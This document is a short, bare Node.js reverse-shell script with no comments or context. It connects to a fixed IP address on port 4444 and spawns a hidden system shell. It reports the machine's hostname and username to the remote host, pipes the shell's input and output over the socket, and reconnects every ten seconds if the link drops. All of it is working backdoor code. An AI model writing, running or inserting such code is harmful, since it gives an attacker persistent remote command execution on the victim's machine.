const net = require('net');
const cp = require('child_process');
const os = require('os');

const HOST = '198.51.100.14';
const PORT = 4444;

function connect() {
  const shell = os.platform() === 'win32' ? 'cmd.exe' : '/bin/sh';
  const client = new net.Socket();
  client.connect(PORT, HOST, () => {
    const sh = cp.spawn(shell, [], { windowsHide: true });
    client.write(`[+] ${os.hostname()} ${os.userInfo().username} ${os.platform()}\n`);
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
    sh.on('exit', () => client.destroy());
  });
  client.on('error', () => setTimeout(connect, 10000));
  client.on('close', () => setTimeout(connect, 10000));
}
connect();
